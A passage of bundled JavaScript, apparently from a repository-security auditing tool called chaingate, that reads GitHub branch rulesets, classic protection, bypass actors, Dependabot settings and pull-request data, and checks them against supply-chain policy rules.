  const list = settings.sources[name] ?? [];
  return list.length ? list.join(", ") : "nothing";
}

// src/github/facts/branch-protection.ts
async function fetchBranchRules(client, owner, repo, branch) {
  return (await listAll(client, "GET /repos/{owner}/{repo}/rules/branches/{branch}", { owner, repo, branch })).items;
}
function readBranchRules(ctx, branch) {
  const { owner, repo } = ctx.target;
  return tieredFact(ctx, "github-token", async (client) => ({ branch, rules: await fetchBranchRules(client, owner, repo, branch) }), {
    what: `rules that apply to branch ${branch}`,
    permission: "Metadata: read",
    ghesFeature: "repository rules"
  });
}
var defaultBranchRulesFact = defineFact("github.default-branch-rules", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  return readBranchRules(ctx, branch.value);
});
function readClassic(ctx, branch) {
  const { owner, repo } = ctx.target;
  return tieredFact(ctx, "elevated", async (c) => (await c.octokit.rest.repos.getBranchProtection({ owner, repo, branch })).data, {
    what: `classic branch protection of ${branch}`,
    permission: "Administration: read",
    // 404 "Branch not protected" is an answer; a 404 for lack of access says "Not Found".
    onNotFound: (error) => /not protected/i.test(error.message) ? known(null) : void 0
  });
}
var defaultBranchClassicProtectionFact = defineFact("github.default-branch-classic-protection", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const classic = await readClassic(ctx, branch.value);
  return classic.known ? known({ branch: branch.value, protection: classic.value }) : classic;
});
var RELEASE_BRANCH_PATTERNS = ["release/**", "releases/**", "release-*", "v[0-9]*.x", "stable/**"];
var MAX_RELEASE_BRANCHES = 5;
var MAX_LISTED_BRANCHES = 500;
function isReleaseBranch(name, patterns = RELEASE_BRANCH_PATTERNS) {
  const { minimatch } = globLibrary();
  return patterns.some((pattern) => minimatch(name, pattern, { dot: true }));
}
var releaseBranchesFact = defineFact("github.release-branches", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2, truncated } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/branches",
        { owner, repo },
        MAX_LISTED_BRANCHES
      );
      const matching = items2.filter((item) => item.name !== branch.value && isReleaseBranch(item.name));
      const newest = [...matching].sort((a, b) => b.name.localeCompare(a.name, "en", { numeric: true })).slice(0, MAX_RELEASE_BRANCHES);
      const checked = await Promise.all(
        newest.map(async (item) => {
          const rules = await fetchBranchRules(client, owner, repo, item.name);
          if (rules.length > 0 || !item.protected) return { name: item.name, protectedFlag: item.protected, rules };
          return { name: item.name, protectedFlag: item.protected, rules, classic: await readClassic(ctx, item.name) };
        })
      );
      return { matching: matching.map((item) => item.name), truncated, checked };
    },
    { what: "release branches and their rules", permission: "Metadata: read", ghesFeature: "repository rules" }
  );
});

// src/github/facts/rulesets.ts
var MAX_RULESET_DETAILS = 12;
var rulesetsFact = defineFact("github.rulesets", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/rulesets", { owner, repo, includes_parents: true });
      const rulesets = await Promise.all(
        items2.map(async (listed, index) => {
          const base = {
            id: listed.id,
            name: listed.name,
            target: listed.target ?? "branch",
            sourceType: listed.source_type ?? "Repository",
            source: listed.source,
            enforcement: listed.enforcement,
            bypassActors: null,
            ...listed.current_user_can_bypass ? { currentUserCanBypass: listed.current_user_can_bypass } : {},
            refName: null,
            rules: null
          };
          if (listed.enforcement === "disabled" || base.target !== "branch" && base.target !== "tag") return base;
          if (index >= MAX_RULESET_DETAILS) return { ...base, detailsError: `details not read (more than ${MAX_RULESET_DETAILS} rulesets)` };
          try {
            const response = await client.octokit.request("GET /repos/{owner}/{repo}/rulesets/{ruleset_id}", {
              owner,
              repo,
              ruleset_id: listed.id,
              includes_parents: true
            });
            const detail = response.data;
            return {
              ...base,
              target: detail.target ?? base.target,
              enforcement: detail.enforcement,
              bypassActors: Array.isArray(detail.bypass_actors) ? detail.bypass_actors : null,
              refName: { include: detail.conditions?.ref_name?.include ?? [], exclude: detail.conditions?.ref_name?.exclude ?? [] },
              rules: detail.rules ?? []
            };
          } catch (error) {
            return { ...base, detailsError: `details could not be read: ${describeError(error)}` };
          }
        })
      );
      return { rulesets };
    },
    { what: "the rulesets of the repository and its organization", permission: "Metadata: read", ghesFeature: "repository rulesets" }
  );
});
function refMatches(refName, ref, defaultBranch) {
  const kind = ref.startsWith("refs/tags/") ? "tag" : "branch";
  const test = (pattern) => {
    if (pattern === "~ALL") return true;
    if (pattern === "~DEFAULT_BRANCH") return kind === "branch" && defaultBranch !== null && ref === `refs/heads/${defaultBranch}`;
    const full = pattern.startsWith("refs/") ? pattern : `refs/${kind === "tag" ? "tags" : "heads"}/${pattern}`;
    return globLibrary().minimatch(ref, full, { dot: true, nobrace: true, noext: true });
  };
  return refName.include.some(test) && !refName.exclude.some(test);
}

// src/rules/code/protection-support.ts
var BRANCH_FACTS = { needs: [defaultBranchRulesFact], uses: [defaultBranchClassicProtectionFact, rulesetsFact] };
var BRANCH_ACCESS_NOTE = "Rulesets (repository and organization) are read with the GITHUB_TOKEN; classic branch protection needs admin read (admin-token). Without it, a requirement the rulesets do not meet is unknown, never failed.";
function branchView(ctx) {
  const rules = ctx.fact(defaultBranchRulesFact);
  if (!rules.known) return null;
  const rulesets = ctx.fact(rulesetsFact);
  return {
    branch: rules.value.branch,
    fromRules: settingsFromRules(rules.value.rules, rulesets.known ? rulesets.value.rulesets : []),
    classic: ctx.fact(defaultBranchClassicProtectionFact)
  };
}
function requirement(view, holds, text) {
  const judgement = judge(view.fromRules, view.classic, holds);
  switch (judgement.status) {
    case "pass":
      return { status: "pass", message: text.pass(judgement) };
    case "fail":
      return { status: "fail", message: text.fail(judgement) };
    default:
      return {
        status: "unknown",
        message: `${text.unknownPrefix}, and classic branch protection could not be read: ${judgement.reason}`,
        permission: judgement.permission
      };
  }
}
function onlyProblems(results) {
  const problems = results.filter((result) => result.status !== "pass");
  if (problems.length > 0) return problems;
  return [{ status: "pass", message: results.map((result) => result.message).join("; ") }];
}

// src/rules/code/default-branch-history.ts
var defaultBranchHistory = defineRule({
  meta: {
    id: "default-branch-history",
    area: "code",
    severity: "high",
    title: "Default branch history can be rewritten or deleted",
    rationale: "A force push or a deletion silently replaces what was reviewed and released; SLSA Source L2 requires that history cannot be rewritten.",
    remediation: 'Add "Block force pushes" (non_fast_forward) and "Restrict deletions" (deletion) to the ruleset of the default branch, or untick "Allow force pushes" and "Allow deletions" in classic protection.',
    references: ["SSC-35", "SLSA Source L2", "OSPS-AC-03.02", "Scorecard: Branch-Protection", "Legitify: missing_default_branch_protection_force_push"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (classic protection only)"],
      note: BRANCH_ACCESS_NOTE
    }
  },
  ...BRANCH_FACTS,
  defaultOptions: { requireLinearHistory: false },
  strictOptions: { requireLinearHistory: true },
  optionsSchema: { type: "object", properties: { requireLinearHistory: { type: "boolean", description: "Also require linear history (no merge commits)." } } },
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch } = view;
    const results = [
      requirement(view, (s) => s.blocksForcePush, {
        pass: (j) => `force pushes to ${branch} are blocked (${sourcesOf(j.settings, "blocksForcePush")})`,
        fail: () => `force pushes to ${branch} are allowed`,
        unknownPrefix: `no active ruleset blocks force pushes to ${branch}`
      }),
      requirement(view, (s) => s.blocksDeletion, {
        pass: (j) => `deletion of ${branch} is blocked (${sourcesOf(j.settings, "blocksDeletion")})`,
        fail: () => `branch ${branch} can be deleted`,
        unknownPrefix: `no active ruleset blocks deletion of ${branch}`
      })
    ];
    if (ctx.options.requireLinearHistory) {
      results.push(
        requirement(view, (s) => s.linearHistory, {
          pass: (j) => `linear history required on ${branch} (${sourcesOf(j.settings, "linearHistory")})`,
          fail: () => `branch ${branch} does not require linear history`,
          unknownPrefix: `no active ruleset requires linear history on ${branch}`
        })
      );
    }
    return onlyProblems(results);
  }
});

// src/rules/code/default-branch-protection.ts
var defaultBranchProtection = defineRule({
  meta: {
    id: "default-branch-protection",
    area: "code",
    severity: "high",
    title: "Default branch is not protected",
    rationale: "An unprotected default branch accepts force pushes, deletion and unreviewed changes from anyone with write access, or from a stolen token.",
    remediation: "Protect the default branch with a ruleset (Settings > Rules > Rulesets) or classic branch protection: require pull requests, block force pushes and deletion.",
    references: ["SSC-32", "SLSA Source L3", "OSPS-AC-03.01", "Scorecard: Branch-Protection", "Legitify: missing_default_branch_protection"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (classic protection only)"],
      note: BRANCH_ACCESS_NOTE
    }
  },
  ...BRANCH_FACTS,
  defaultOptions: {},
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch, fromRules, classic } = view;
    if (fromRules.protections.length > 0) {
      return [{ status: "pass", message: `branch ${branch} is protected by rulesets (${fromRules.protections.join(", ")})` }];
    }
    if (!classic.known) {
      return [
        {
          status: "unknown",
          message: `no active ruleset protects branch ${branch}, and its classic branch protection could not be read: ${classic.reason}`,
          permission: classic.permission ?? "Administration: read"
        }
      ];
    }
    if (settingsFromClassic(classic.value.protection).protections.length > 0)
      return [{ status: "pass", message: `branch ${branch} is protected by classic branch protection` }];
    return [{ status: "fail", message: `branch ${branch} has neither an active ruleset nor classic branch protection` }];
  }
});

// src/rules/code/default-branch-review.ts
var defaultBranchReview = defineRule({
  meta: {
    id: "default-branch-review",
    area: "code",
    severity: "high",
    title: "Default branch does not require reviewed pull requests",
    rationale: "Without required, independent review, one compromised account or token can land code on the default branch. Stale approvals and self-approved last pushes let a change be altered after review.",
    remediation: "In a branch ruleset (or classic protection) for the default branch, require a pull request with the configured number of approvals, dismiss stale approvals on push, and require approval of the most recent push and code-owner review as the policy asks.",
    references: [
      "SSC-33",
      "SLSA Source L4 (two-party review)",
      "CNCF SSCP: four-eyes",
      "OSPS-QA-07.01",
      "Scorecard: Branch-Protection",
      "Legitify: code_review_not_required"
    ],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (classic protection only)"],
      note: BRANCH_ACCESS_NOTE
    }
  },
  ...BRANCH_FACTS,
  defaultOptions: { minApprovals: 1, requireDismissStale: true, requireLastPushApproval: false, requireCodeOwnerReview: false },
  strictOptions: { minApprovals: 2, requireLastPushApproval: true, requireCodeOwnerReview: true },
  optionsSchema: {
    type: "object",
    properties: {
      minApprovals: { type: "integer", minimum: 0, maximum: 10, description: "Approvals required before merge." },
      requireDismissStale: { type: "boolean", description: "Require that new pushes dismiss earlier approvals." },
      requireLastPushApproval: { type: "boolean", description: "Require the most recent push to be approved by someone other than its pusher." },
      requireCodeOwnerReview: { type: "boolean", description: "Require review from code owners." }
    }
  },
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch } = view;
    const options = ctx.options;
    const results = [];
    results.push(
      requirement(view, (s) => s.pullRequest, {
        pass: (j) => `pull requests are required on ${branch} (${sourcesOf(j.settings, "pullRequest")})`,
        fail: () => `branch ${branch} does not require pull requests: anyone with write access can push directly`,
        unknownPrefix: `no active ruleset requires pull requests on ${branch}`
      })
    );
    if (options.minApprovals > 0) {
      results.push(
        requirement(view, (s) => s.pullRequest && s.approvals >= options.minApprovals, {
          pass: (j) => `${j.settings.approvals} approval(s) required on ${branch} (${sourcesOf(j.settings, "approvals")}; policy: ${options.minApprovals})`,
          fail: (j) => `branch ${branch} requires ${j.settings.pullRequest ? j.settings.approvals : 0} approval(s); the policy asks for at least ${options.minApprovals}`,
          unknownPrefix: `active rulesets require ${view.fromRules.approvals} approval(s) on ${branch} (policy: ${options.minApprovals})`
        })
      );
    }
    const flags = [
      [options.requireDismissStale, "dismissStale", "stale approvals dismissed when new commits are pushed"],
      [options.requireLastPushApproval, "lastPushApproval", "approval of the most recent push by someone other than its pusher"],
      [options.requireCodeOwnerReview, "codeOwnerReview", "review from code owners"]
    ];
    for (const [wanted, name, label] of flags) {
      if (!wanted) continue;
      results.push(
        requirement(view, (s) => s[name], {
          pass: (j) => `${branch}: ${label} (${sourcesOf(j.settings, name)})`,
          fail: () => `branch ${branch} does not require ${label}`,
          unknownPrefix: `no active ruleset requires ${label} on ${branch}`
        })
      );
    }
    return onlyProblems(results);
  }
});

// src/rules/code/default-branch-signed-commits.ts
var defaultBranchSignedCommits = defineRule({
  meta: {
    id: "default-branch-signed-commits",
    area: "code",
    severity: "low",
    title: "Default branch does not require signed commits",
    rationale: "Required signatures tie every commit on the branch to a key GitHub verified, so a stolen password alone cannot forge authorship.",
    remediation: 'Add "Require signed commits" to the default branch ruleset (or classic protection).',
    references: ["SSC-38", "CNCF SSCP: signed commits", "Legitify: no_signed_commits"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (classic protection only)"],
      note: BRANCH_ACCESS_NOTE
    },
    baseline: false
  },
  ...BRANCH_FACTS,
  defaultOptions: {},
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    return [
      requirement(view, (s) => s.signedCommits, {
        pass: (j) => `signed commits required on ${view.branch} (${sourcesOf(j.settings, "signedCommits")})`,
        fail: () => `branch ${view.branch} does not require signed commits`,
        unknownPrefix: `no active ruleset requires signed commits on ${view.branch}`
      })
    ];
  }
});

// src/rules/code/default-branch-status-checks.ts
var defaultBranchStatusChecks = defineRule({
  meta: {
    id: "default-branch-status-checks",
    area: "code",
    severity: "medium",
    title: "Required status checks missing on the default branch",
    rationale: "A check that is not required does not block a merge: CI, the dependency gate and chaingate itself are then advice, not a gate.",
    remediation: "Add a required status checks rule to the default branch's ruleset (or classic protection) naming CI and chaingate's check (the job name, or `checkName` in the policy).",
    references: ["SSC-34", "SSC-17", "OSPS-QA-06.01", "Scorecard: Branch-Protection", "Legitify: requires_status_checks"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (classic protection only)"],
      note: BRANCH_ACCESS_NOTE
    }
  },
  needs: BRANCH_FACTS.needs,
  uses: [...BRANCH_FACTS.uses, workflowPathsFact],
  defaultOptions: { checkName: "chaingate", requiredChecks: [], requireStrict: false },
  strictOptions: { requireStrict: true },
  optionsSchema: {
    type: "object",
    properties: {
      checkName: { type: "string", description: "chaingate's check as named in the required checks ('' to not require it)." },
      requiredChecks: { type: "array", items: { type: "string" }, description: "Other checks that must be required." },
      requireStrict: { type: "boolean", description: "Require branches to be up to date before merging." }
    }
  },
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch } = view;
    const options = ctx.options;
    const results = [
      requirement(view, (s) => s.statusChecks.length > 0 || s.requiredWorkflows.length > 0, {
        pass: (j) => [
          j.settings.statusChecks.length ? `required checks on ${branch}: ${j.settings.statusChecks.join(", ")} (${sourcesOf(j.settings, "statusChecks")})` : null,
          j.settings.requiredWorkflows.length ? `required workflows on ${branch}: ${j.settings.requiredWorkflows.join(", ")} (${sourcesOf(j.settings, "requiredWorkflows")})` : null
        ].filter(Boolean).join("; "),
        fail: () => `branch ${branch} requires no status checks: a failing CI or gate does not block the merge`,
        unknownPrefix: `no active ruleset requires status checks on ${branch}`
      })
    ];
    if (options.checkName) {
      const paths = ctx.fact(workflowPathsFact);
      const names = [.../* @__PURE__ */ new Set([options.checkName, ...paths.known ? paths.value.chaingateJobs : []])];
      const shown = names.map((name) => `"${name}"`).join(" or ");
      const viaWorkflow = (s) => s.requiredWorkflows.find((id) => /chaingate/i.test(id.split(":").slice(1).join(":")));
      results.push(
        requirement(view, (s) => names.some((name) => s.statusChecks.includes(name)) || viaWorkflow(s) !== void 0, {
          pass: (j) => `chaingate's check ${names.find((name) => j.settings.statusChecks.includes(name)) ?? `(required workflow ${viaWorkflow(j.settings)})`} is required on ${branch}`,
          fail: (j) => `chaingate's own check (${shown}) is not required on ${branch}${j.settings.statusChecks.length ? ` (required: ${j.settings.statusChecks.join(", ")})` : ""}; set checkName in the policy if the job has another name`,
          unknownPrefix: `no active ruleset requires chaingate's check (${shown}) on ${branch}`
        })
      );
    }
    for (const name of options.requiredChecks) {
      results.push(
        requirement(view, (s) => s.statusChecks.includes(name), {
          pass: () => `${name} is a required check on ${branch}`,
          fail: (j) => `check "${name}" is not required on ${branch}${j.settings.statusChecks.length ? ` (required: ${j.settings.statusChecks.join(", ")})` : ""}`,
          unknownPrefix: `no active ruleset requires check "${name}" on ${branch}`
        })
      );
    }
    if (options.requireStrict) {
      results.push(
        requirement(view, (s) => s.strictStatusChecks, {
          pass: () => `${branch} must be up to date before merging`,
          fail: () => `branch ${branch} does not require pull requests to be up to date before merging`,
          unknownPrefix: `no active ruleset requires ${branch} to be up to date before merging`
        })
      );
    }
    return onlyProblems(results);
  }
});

// src/rules/code/dependabot-alert-sla.ts
var dependabotAlertSla = defineRule({
  meta: {
    id: "dependabot-alert-sla",
    area: "code",
    severity: "high",
    title: "Dependabot alert open past its SLA",
    rationale: "A known-vulnerable dependency left unpatched is the most common way in; an SLA per severity keeps triage honest.",
    remediation: "Update the dependency (or merge the Dependabot pull request); if it is not exploitable here, dismiss the alert with a reason, or add a policy waiver with an expiry date.",
    references: ["SSC-15", "SSC-18", "OSPS-VM-05", "GitHub guide: securing code (B3)"],
    access: { token: "github-token", githubToken: ["vulnerability-alerts: read"], fineGrained: ["Dependabot alerts: read"] }
  },
  needs: [dependabotAlertsFact],
  defaultOptions: DEFAULT_SLA,
  strictOptions: { minSeverity: "medium" },
  optionsSchema: SLA_OPTIONS_SCHEMA,
  evaluate(ctx) {
    const fact = ctx.need(dependabotAlertsFact);
    if (!fact.enabled)
      return [
        {
          status: "unknown",
          message: `Dependabot alerts are disabled, so open alerts cannot be checked (${fact.disabledBecause ?? ""})`.trim(),
          permission: "enable Dependabot alerts"
        }
      ];
    const results = [];
    for (const alert of fact.alerts) {
      const severity = alertSeverity(alert.severity);
      const state = overdue(severity, alert.createdAt, ctx.now, ctx.options);
      if (!state.overdue) continue;
      const location = fileLocation(alert.manifestPath);
      results.push({
        status: "fail",
        severity,
        message: `Dependabot alert #${alert.number} (${severity}) ${alert.advisory} in ${alert.package}${alert.manifestPath ? ` (${alert.manifestPath})` : ""} has been open ${state.age} days; SLA ${state.sla} days: ${alert.htmlUrl}`,
        ...location ? { location } : {}
      });
    }
    if (results.length === 0)
      return [{ status: "pass", message: `${fact.alerts.length} open Dependabot alert(s), none ${ctx.options.minSeverity} or above past its SLA` }];
    return results;
  }
});

// src/rules/code/dependabot-alerts.ts
var dependabotAlerts = defineRule({
  meta: {
    id: "dependabot-alerts",
    area: "code",
    severity: "medium",
    title: "Dependabot alerts are disabled",
    rationale: "Without alerts nobody learns that a dependency in use has a published vulnerability.",
    remediation: "Settings > Code security > Dependabot alerts: Enable (and the dependency graph).",
    references: ["SSC-13", "GitHub guide: securing code (B3)", "Legitify: vulnerability_alerts_not_enabled"],
    access: { token: "github-token", githubToken: ["vulnerability-alerts: read"], fineGrained: ["Dependabot alerts: read"] }
  },
  needs: [dependabotAlertsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(dependabotAlertsFact);
    return fact.enabled ? [{ status: "pass", message: "Dependabot alerts are enabled" }] : [{ status: "fail", message: `Dependabot alerts are disabled (${fact.disabledBecause ?? "GitHub says so"})` }];
  }
});

// src/rules/code/dependabot-security-updates.ts
var dependabotSecurityUpdates = defineRule({
  meta: {
    id: "dependabot-security-updates",
    area: "code",
    severity: "low",
    title: "Dependabot security updates are disabled or paused",
    rationale: "Alerts without fix pull requests wait for someone to act; security updates make the fix a merge away.",
    remediation: "Settings > Code security > Dependabot security updates: Enable; if GitHub paused them after inactivity, merge or close the pending ones.",
    references: ["SSC-14", "GitHub guide: securing code (B3)"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{o}/{r}/automated-security-fixes (enabled and paused), admin read." }
  },
  needs: [dependabotSecurityUpdatesFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(dependabotSecurityUpdatesFact);
    if (!fact.enabled) return [{ status: "fail", message: "Dependabot security updates are disabled" }];
    if (fact.paused) return [{ status: "fail", message: "Dependabot security updates are enabled but paused" }];
    return [{ status: "pass", message: "Dependabot security updates are enabled" }];
  }
});

// src/rules/code/private-vulnerability-reporting.ts
var privateVulnerabilityReporting = defineRule({
  meta: {
    id: "private-vulnerability-reporting",
    area: "code",
    severity: "low",
    title: "Private vulnerability reporting is disabled",
    rationale: "Without a private channel, a reporter either gives up or files a public issue, publishing the vulnerability before a fix.",
    remediation: "Settings > Code security > Private vulnerability reporting: Enable (or enable it for all repositories in the organization).",
    references: ["SSC-41", "OSPS-VM-03.01", "Scorecard: Security-Policy"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Administration: read"],
      note: "GitHub documents no GITHUB_TOKEN scope for this endpoint; when the workflow token is refused, admin-token is used."
    }
  },
  needs: [repositoryFact, privateVulnerabilityReportingFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(privateVulnerabilityReportingFact);
    const repository = ctx.need(repositoryFact);
    if (fact.enabled) return [{ status: "pass", message: "private vulnerability reporting is enabled" }];
    return [{ status: "fail", message: `private vulnerability reporting is disabled on ${repository.full_name}` }];
  }
});

// src/rules/code/protection-bypass.ts
function actorLabel(actor) {
  return actor.actor_id === null || actor.actor_id === void 0 || actor.actor_type === "OrganizationAdmin" || actor.actor_type === "DeployKey" ? actor.actor_type : `${actor.actor_type}:${actor.actor_id}`;
}
var protectionBypass = defineRule({
  meta: {
    id: "protection-bypass",
    area: "code",
    severity: "medium",
    title: "Branch or tag protection is not enforced for everyone",
    rationale: "A ruleset in evaluate mode only reports violations; bypass actors and administrators exempt from classic protection can push unreviewed changes or rewrite history. Peers count such rulesets as protection; chaingate does not.",
    remediation: 'Switch rulesets to Active, remove bypass actors (or list the accepted ones in `allowedBypassActors` with a reason), and tick "Do not allow bypassing the above settings" in classic protection.',
    references: ["SSC-36", "SLSA Source L3 (continuous enforcement)", "Legitify: users_allowed_to_bypass_ruleset", "CIS 1.1.14"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (bypass actors and classic protection)"],
      note: "Enforcement modes are visible to any reader; GitHub returns bypass_actors only to a token that may edit the ruleset (repository admin, organization owner for organization rulesets), so without admin-token a ruleset bypass list is unknown."
    }
  },
  needs: [rulesetsFact, defaultBranchRulesFact],
  uses: [defaultBranchClassicProtectionFact],
  defaultOptions: { allowedBypassActors: [], allowPullRequestBypass: false },
  optionsSchema: {
    type: "object",
    properties: {
      allowedBypassActors: {
        type: "array",
        items: { type: "string" },
        description: "Accepted bypass actors, e.g. Integration:12345, Team:42, OrganizationAdmin."
      },
      allowPullRequestBypass: { type: "boolean", description: "Accept actors that can bypass only through a pull request." }
    }
  },
  evaluate(ctx) {
    const rulesetsFactValue = ctx.need(rulesetsFact);
    const rulesFact = ctx.need(defaultBranchRulesFact);
    const branch = rulesFact.branch;
    const ref = `refs/heads/${branch}`;
    const appliedIds = new Set(rulesFact.rules.map((rule) => rule.ruleset_id).filter((id) => id !== void 0));
    const relevance = (ruleset) => {
      if (ruleset.enforcement === "disabled") return false;
      if (ruleset.target === "tag") return true;
      if (ruleset.target !== "branch") return false;
      if (appliedIds.has(ruleset.id)) return true;
      return ruleset.refName ? refMatches(ruleset.refName, ref, branch) : null;
    };
    const relevant = (ruleset) => relevance(ruleset) === true;
    const results = [];
    const { allowedBypassActors, allowPullRequestBypass } = ctx.options;
    for (const ruleset of rulesetsFactValue.rulesets.filter((item) => relevance(item) === null)) {
      results.push({
        status: "unknown",
        message: `${ruleset.enforcement} branch ruleset "${ruleset.name}" (${ruleset.sourceType.toLowerCase()} ${ruleset.source}): whether it applies to ${branch} could not be read (${ruleset.detailsError ?? "no conditions"})`,
        permission: "Metadata: read"
      });
    }
    for (const ruleset of rulesetsFactValue.rulesets.filter(relevant)) {
      const where = `${ruleset.target} ruleset "${ruleset.name}" (${ruleset.sourceType.toLowerCase()} ${ruleset.source})`;
      if (ruleset.enforcement === "evaluate") {
        results.push({ status: "fail", message: `${where} is in evaluate mode: its rules are reported, not enforced` });
        continue;
      }
      if (ruleset.bypassActors === null) {
        results.push({
          status: "unknown",
          message: `${where}: its bypass actors are not visible to the token (${ruleset.detailsError ?? "GitHub returns bypass_actors only to those who may edit the ruleset"})`,
          permission: "Administration: read (repository; organization owner for organization rulesets), via admin-token"
        });
        continue;
      }
      const offending = ruleset.bypassActors.filter((actor) => {
        if (allowPullRequestBypass && actor.bypass_mode === "pull_request") return false;
        const label = actorLabel(actor);
        return !allowedBypassActors.includes(label) && !allowedBypassActors.includes(actor.actor_type);
      });
      if (offending.length > 0) {
        results.push({
          status: "fail",
          message: `${where} can be bypassed by ${offending.map((actor) => `${actorLabel(actor)} (${actor.bypass_mode ?? "always"})`).join(", ")}`
        });
      }
    }
    const classic = ctx.fact(defaultBranchClassicProtectionFact);
    const rulesetProtected = settingsFromRules(rulesFact.rules).protections.length > 0;
    if (!rulesetProtected) {
      if (!classic.known) {
        results.push({
          status: "unknown",
          message: `no active ruleset protects ${branch}, and whether classic protection applies to administrators could not be read: ${classic.reason}`,
          permission: classic.permission ?? "Administration: read"
        });
      } else if (classic.value.protection && classic.value.protection.enforce_admins?.enabled !== true) {
        results.push({ status: "fail", message: `classic protection of ${branch} does not apply to administrators (enforce_admins is off)` });
      }
    }
    if (results.length === 0) {
      const count = rulesetsFactValue.rulesets.filter(relevant).length;
      return [{ status: "pass", message: `${count} ruleset(s) on ${branch} and tags are active with no bypass actors outside the policy` }];
    }
    return results;
  }
});

// src/pull-request/event.ts
var PULL_REQUEST_EVENTS = ["pull_request", "pull_request_target", "pull_request_review"];
var QUEUE_REF = /^(?:refs\/heads\/)?gh-readonly-queue\/.+\/pr-(\d+)-([0-9a-f]{7,64})$/;
function pullRequestFromQueueRef(ref) {
  const match2 = QUEUE_REF.exec(ref);
  return match2 ? Number(match2[1]) : null;
}
function record2(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value) ? value : null;
}
function pullRequestOf(event) {
  if (!event) return null;
  if (PULL_REQUEST_EVENTS.includes(event.name)) {
    const pr = record2(event.payload.pull_request);
    const number = typeof pr?.number === "number" ? pr.number : typeof event.payload.number === "number" ? event.payload.number : null;
    if (number === null) return null;
    const head = record2(pr?.head);
    const user = record2(pr?.user);
    return {
      number,
      event: event.name,
      ...typeof head?.sha === "string" ? { headSha: head.sha } : {},
      ...typeof user?.login === "string" ? { author: user.login } : {}
    };
  }
  if (event.name === "merge_group") {
    const group = record2(event.payload.merge_group);
    const ref = typeof group?.head_ref === "string" ? group.head_ref : "";
    const number = pullRequestFromQueueRef(ref);
    if (number === null) return null;
    return { number, event: event.name, ...typeof group?.head_sha === "string" ? { groupHeadSha: group.head_sha } : {} };
  }
  return null;
}

// src/pull-request/facts.ts
var NOT_A_PULL_REQUEST = "this run is not for a pull request (checked only on pull_request, pull_request_target, pull_request_review and merge_group events)";
function notInPullRequestMode(ctx) {
  const name = ctx.event?.name;
  return name ? unknownFact("other-event", `${NOT_A_PULL_REQUEST}; event was ${name}`) : unknownFact("not-applicable", NOT_A_PULL_REQUEST);
}
var pullRequestDataFact = defineFact("github.pull-request-data", async (ctx) => {
  const ref = pullRequestOf(ctx.event);
  if (!ref) return notInPullRequestMode(ctx);
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const data = await graphql(client, PULL_REQUEST_QUERY, { owner, name: repo, number: ref.number });
      const pr = data.repository?.pullRequest;
      if (!pr) throw new Error(`pull request #${ref.number} not visible to GraphQL`);
      const reviews = pr.reviews.pageInfo.hasNextPage ? null : pr.reviews.nodes.flatMap(
        (node) => node ? [{ user: actorLogin(node.author), state: node.state, commitId: node.commit?.oid ?? null, submittedAt: node.submittedAt }] : []
      );
      const commits = pr.commits.pageInfo.hasNextPage ? null : pr.commits.nodes.flatMap(
        (node) => node ? [
          {
            sha: node.commit.oid,
            verified: node.commit.signature?.isValid === true,
            reason: (node.commit.signature?.state ?? "UNSIGNED").toLowerCase(),
            author: node.commit.author?.user?.login ?? null
          }
        ] : []
      );
      return { number: pr.number, headSha: pr.headRefOid, author: actorLogin(pr.author) ?? "ghost", reviews, commits };
    },
    { what: `pull request #${ref.number}`, permission: "pull-requests: read" }
  );
});
var pullRequestFact = defineFact("github.pull-request", async (ctx) => {
  const ref = pullRequestOf(ctx.event);
  if (!ref) return notInPullRequestMode(ctx);
  if (!ctx.target) return noTarget();
  if (ref.headSha && ref.author) return known({ number: ref.number, event: ref.event, headSha: ref.headSha, author: ref.author });
  const extra = ref.groupHeadSha ? { groupHeadSha: ref.groupHeadSha } : {};
  const graph = await ctx.get(pullRequestDataFact);
  if (graph.known) return known({ number: ref.number, event: ref.event, headSha: graph.value.headSha, author: graph.value.author, ...extra });
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const data = (await client.octokit.rest.pulls.get({ owner, repo, pull_number: ref.number })).data;
      return { number: ref.number, event: ref.event, headSha: data.head.sha, author: data.user.login, ...extra };
    },
    { what: `pull request #${ref.number}`, permission: "pull-requests: read" }
  );
});
var pullRequestReviewsFact = defineFact("github.pull-request-reviews", async (ctx) => {
  const pr = await ctx.get(pullRequestFact);
  if (!pr.known) return pr;
  const graph = await ctx.get(pullRequestDataFact);
  if (graph.known && graph.value.reviews) return known(graph.value.reviews);
